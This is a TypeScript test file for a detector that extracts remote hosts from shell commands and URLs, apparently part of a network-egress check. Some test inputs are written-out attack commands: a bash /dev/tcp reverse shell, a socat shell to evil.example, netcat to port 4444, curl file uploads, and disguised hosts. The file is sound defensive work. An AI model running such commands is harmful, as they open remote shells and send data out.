import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findRemoteHosts, hostOf } from "./remote-hosts.ts";

describe("D-5: the hosts that a command or an address names", () => {
  it.each([
    ["curl", "-d @a https://Collect.Example.NET./x", ["collect.example.net"]],
    ["curl", "https://api.github.com@evil.example/", ["evil.example"]],
    ["curl", "http://0xCB007105/ http://3405803781", ["203.0.113.5"]],
    ["curl", "-T a example.org/upload", ["example.org"]],
    ["curl", "http://[::ffff:203.0.113.5]:80/", ["::ffff:cb00:7105"]],
    ["scp", "-P 22 a.zip me@host.example:/tmp", ["host.example"]],
    ["rsync", "-a src/ backup:/srv", ["backup"]],
    ["git", "push git@github.com:a/b.git main:main", ["github.com"]],
    ["git", "push origin local:remote", []],
    ["nc", "203.0.113.5 4444", ["203.0.113.5"]],
    ["bash", "-i >& /dev/tcp/203.0.113.5/443", ["203.0.113.5"]],
    ["socat", "EXEC:sh TCP:evil.example:1", ["evil.example"]],
    ["dig", "+short x.example.org @9.9.9.9", ["x.example.org", "9.9.9.9"]],
    ["ls", "-la example.org", []],
    ["curl", "a.b c.d e.f g.h i.j", ["a.b", "c.d", "e.f", "g.h"]],
  ])("%s %s", (program, args, hosts) => {
    expect(findRemoteHosts(program, [program, ...args.split(" ")])).toEqual(hosts);
  });

  it("reads addresses of network events", () => {
    expect(hostOf("https://A.example:8443/x?y=https://b.example")).toBe("a.example");
    expect(hostOf("a.example:443")).toBe("a.example");
    expect(hostOf("")).toBeUndefined();
  });

  it("never fails, and is done with long words at once", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" })), (words) => {
        expect(findRemoteHosts("curl", ["curl", ...words]).length).toBeLessThanOrEqual(4);
      }),
    );
    const started = process.cpuUsage().user;
    for (const word of ["a".repeat(20_000), "a.".repeat(10_000), "a@".repeat(10_000), "http://".repeat(3_000)]) {
      findRemoteHosts("scp", ["scp", word]);
      findRemoteHosts("curl", ["curl", word]);
    }
    expect(process.cpuUsage().user - started).toBeLessThan(500_000);
  });
});
